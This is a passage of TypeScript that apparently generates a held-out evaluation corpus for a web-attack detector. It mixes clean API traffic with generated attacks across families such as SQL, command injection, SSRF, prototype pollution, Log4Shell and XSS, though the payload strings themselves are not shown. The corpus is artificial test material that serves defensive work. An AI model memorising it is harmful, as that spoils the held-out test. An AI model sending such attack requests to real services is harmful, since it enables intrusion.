        '/graphql',
        `{"query":"mutation Save($input: JSON!) { save(input: $input) { id } }","variables":{"input":${gadgets[5]}}}`,
        json,
      ),
    );
  }
  {
    const site = s();
    add(
      'ndjson-line',
      attackReq(
        site.d,
        'POST',
        `${site.path()}/bulk`,
        `{"name":"a"}\n${gadgets[0]}\n{"name":"b"}\n`,
        'application/x-ndjson',
      ),
    );
  }
  return out.map((r) => ({ ...r, family: 'prototype-pollution' }));
}

function buildAttacks(): Req[] {
  return [
    ...familyAttacks('sql', PAYLOADS.sql, INJECTION_SITES, STRING_TECHS, 34),
    ...familyAttacks('nosql', PAYLOADS.nosql, INJECTION_SITES, NOSQL_TECHS, 33),
    ...familyAttacks('template', PAYLOADS.template, INJECTION_SITES, STRING_TECHS, 33),
    ...familyAttacks('command', PAYLOADS.command, [...INJECTION_SITES, ...PATH_SITES], STRING_TECHS, 33),
    ...familyAttacks('path-traversal', PAYLOADS['path-traversal'], PATH_SITES, URL_TECHS, 33),
    ...familyAttacks('ssrf', PAYLOADS.ssrf, SSRF_SITES, URL_TECHS, 33),
    ...pollutionAttacks(),
    ...familyAttacks('log4shell', PAYLOADS.log4shell, INJECTION_SITES, STRING_TECHS, 34),
    ...familyAttacks('xss', PAYLOADS.xss, INJECTION_SITES, STRING_TECHS, 34),
  ];
}

// ================================================================ assembly
const clean: CorpusRequest[] = [
  ...clmClean(),
  ...buildClean(),
  ...genClean(),
  ...pubClean(),
  ...surveyClean(),
  ...flowClean(),
  ...sheetClean(),
  ...chatClean(),
].map((r, i) => ({ id: `h19c${i + 1}`, ...r }));
const attacks: CorpusRequest[] = buildAttacks().map((r, i) => ({ id: `h19a${i + 1}`, ...r }));

/** Held-out corpus 19: clean traffic of eight domains and attacks hidden in the same APIs. */
export const heldout19: { readonly clean: CorpusRequest[]; readonly attacks: CorpusRequest[] } = {
  clean,
  attacks,
};

/** JSON body fields an operator of these APIs would declare as rich-text HTML or source code. */
export const HELDOUT19_EXCLUDE_FIELDS: string[] = [
  'body.clause.body_html',
  'body.daily_log.notes_html',
  'body.story.content_html',
  'body.manuscript.latex_source',
  'body.question.description_html',
  'body.template.html',
  'body.node.parameters.jsCode',
  'body.node.parameters.pythonCode',
  'body.node.parameters.query',
  'body.step.code',
  'body.script.source',
  'body.snippet.content',
];

if (process.argv[1] && resolve(process.argv[1]) === fileURLToPath(import.meta.url)) {
  const dir = dirname(fileURLToPath(import.meta.url));
  writeFileSync(join(dir, 'clean-heldout19.json'), JSON.stringify(clean, null, 2) + '\n');
  writeFileSync(join(dir, 'attacks-heldout19.json'), JSON.stringify(attacks, null, 2) + '\n');
  const count = (xs: readonly CorpusRequest[], key: 'kind' | 'family'): Record<string, number> => {
    const c: Record<string, number> = {};
    for (const x of xs) {
      const k = x[key] ?? '-';
      c[k] = (c[k] ?? 0) + 1;
    }
    return c;
  };
  console.log(`clean: ${clean.length}`, count(clean, 'kind'));
  console.log(`attacks: ${attacks.length}`, count(attacks, 'family'));
}
